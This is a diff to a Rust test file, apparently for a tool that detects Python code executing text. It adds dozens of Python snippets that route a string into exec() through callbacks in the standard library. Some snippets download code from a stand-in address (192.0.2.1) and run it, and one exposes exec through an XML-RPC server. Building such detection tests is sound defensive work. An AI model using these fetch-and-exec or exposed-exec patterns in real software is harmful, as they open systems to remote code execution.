@@ -4,7 +4,7 @@
 mod common;
 
 use common::events_of;
-use venin_model::Trigger;
+use venin_model::{OriginKind, Trigger};
 
 /// The text that is executed, as the name `F`.
 const TEXT: &str = "F = \"import os;os.system('echo')\"\n";
@@ -146,6 +146,82 @@ fn annotations_that_call_something_are_evaluated_with_the_hints() {
 }
 
 #[test]
+fn callbacks_get_the_text_that_their_caller_was_given() {
+    assert_all_open(&[
+        "import re\nre.sub('.+', lambda m: exec(m.group()) or '', F)",
+        "import re\nre.compile('.+').sub(lambda m: exec(m[0]) or '', F)",
+        "import re\nre.Scanner([('.+', lambda s, t: exec(t))]).scan(F)",
+        "import itertools\nlist(itertools.groupby([F], exec))",
+        "import itertools\nlist(itertools.starmap(exec, [(F,)]))",
+        "import heapq\nheapq.nlargest(1, [F], key=exec)",
+        "import json\njson.loads(json.dumps({'a': F}), object_hook=lambda d: exec(d['a']))",
+        "import json\njson.JSONDecoder(object_hook=lambda d: exec(d['a'])).decode(json.dumps({'a': F}))",
+        "from html.parser import HTMLParser\nclass P(HTMLParser):\n    def handle_data(s, d): exec(d)\n\
+         P().feed('<p>' + F + '</p>')",
+        "import xml.sax\nclass H(xml.sax.ContentHandler):\n    def characters(s, c): exec(c)\n\
+         xml.sax.parseString('<a>' + F + '</a>', H())",
+        "import sqlite3\nc = sqlite3.connect(':memory:')\nc.create_function('f', 1, exec)\n\
+         c.execute('select f(?)', (F,))",
+        "import sqlite3\nsqlite3.register_converter('q', exec)\n\
+         sqlite3.connect(':memory:', detect_types=1).execute('insert into t values(?)', (F,))",
+        "import argparse\np = argparse.ArgumentParser()\np.add_argument('-x', type=exec, default=F)\np.parse_args([])",
+        "import argparse\np = argparse.ArgumentParser()\np.add_argument('x', type=exec)\np.parse_args([F])",
+        "import cmd\nclass C(cmd.Cmd):\n    def do_r(s, a): exec(a)\nC().onecmd('r ' + F)",
+        "import logging\nclass Q(logging.Handler):\n    def emit(s, r): exec(r.getMessage())\n\
+         l = logging.getLogger('z')\nl.addHandler(Q())\nl.error(F)",
+        "import logging\nl = logging.getLogger('z')\nl.addFilter(lambda r: exec(r.msg))\nl.error(F)",
+        "import warnings\nwarnings.showwarning = lambda m, *a: exec(str(m))\nwarnings.warn(F)",
+        "class W:\n    def write(self, s): exec(s)\nprint(F, file=W())",
+        "import sys\nclass W:\n    def write(self, s): exec(s)\nsys.stdout = W()\nprint(F)",
+        "import sys\nsys.displayhook = exec\nsys.displayhook(F)",
+        "import sys\nsys.breakpointhook = lambda: exec(F)\nbreakpoint()",
+        "import readline\nreadline.set_startup_hook(lambda: exec(F))\ninput()",
+        "import tkinter\nt = tkinter.Tcl()\nt.createcommand('q', lambda: exec(F))\nt.eval('q')",
+    ]);
+}
+
+#[test]
+fn matches_hold_their_groups() {
+    assert_all_open(&[
+        "import re\nexec(re.match('(.+)', F).group(1))",
+        "import re\nexec(re.search(r'import .+', 'x ' + F)[0])",
+        "import re\nexec(re.compile('(.+)').match(F).group())",
+        "import re\nfor m in re.finditer('.+', F):\n    exec(m.group())",
+        "import re\nif m := re.fullmatch('(?P<a>.+)', F):\n    exec(m['a'])",
+        "import re\nexec(re.match('(?P<a>.+)', F).groupdict()['a'])",
+        "import re\nexec(re.sub('..', lambda m: chr(int(m.group(), 16)), F.encode().hex()))",
+    ]);
+    for none in ["re.match('x', F)", "re.fullmatch('import', F)", "re.search('xyz', F)"] {
+        assert!(!is_opened(&format!("import re\nif {none}:\n    exec(F)")), "{none}");
+    }
+}
+
+#[test]
+fn what_a_callback_gets_of_a_text_that_is_not_known_has_its_origins() {
+    let fetched = "import urllib.request\nt = urllib.request.urlopen('http://192.0.2.1/').read().decode()\n";
+    let served = "import xmlrpc.server as x\ns = x.SimpleXMLRPCServer(('', 1))\ns.register_function(exec)\n";
+    for (source, of) in [
+        (format!("{fetched}import re\nre.sub('.+', lambda m: exec(m.group()), t)"), OriginKind::Network),
+        (format!("{fetched}import re\nexec(re.search('(.+)', t).group(1))"), OriginKind::Network),
+        (
+            format!("{fetched}import json\njson.loads(t, object_hook=lambda d: exec(d['a']))"),
+            OriginKind::Network,
+        ),
+        (format!("{served}s.serve_forever()"), OriginKind::Network),
+        (
+            "import sqlite3\nc = sqlite3.connect('a.db')\nc.create_function('f', 1, lambda s: exec(s))\n\
+             c.execute('select f(a) from t')"
+                .to_owned(),
+            OriginKind::File,
+        ),
+    ] {
+        let events = events_of(&source);
+        let is_it = |e: &venin_model::Event| &*e.name == "exec" && e.input.kinds.contains(of);
+        assert!(events.iter().any(is_it), "{source}");
+    }
+}
+
+#[test]
 fn text_that_is_only_held_opens_nothing() {
     for source in ["", "print(F)", "import ast\nast.parse(F)", "import codeop\ncodeop.compile_command(F)"] {
         assert!(!is_opened(source), "{source}");
@@ -162,6 +238,6 @@ fn text_that_was_filled_in_counts_as_decoded_at_every_door() {
         let executes =
             |e: &&venin_model::Event| e.class.family == venin_model::Family::Cc && e.site.layer == 0;
         let kinds = events.iter().find(executes).map(|e| e.input.kinds);
-        assert!(kinds.is_some_and(|k| k.contains(venin_model::OriginKind::Decoded)), "{door}: {kinds:?}");
+        assert!(kinds.is_some_and(|k| k.contains(OriginKind::Decoded)), "{door}: {kinds:?}");
     }
 }
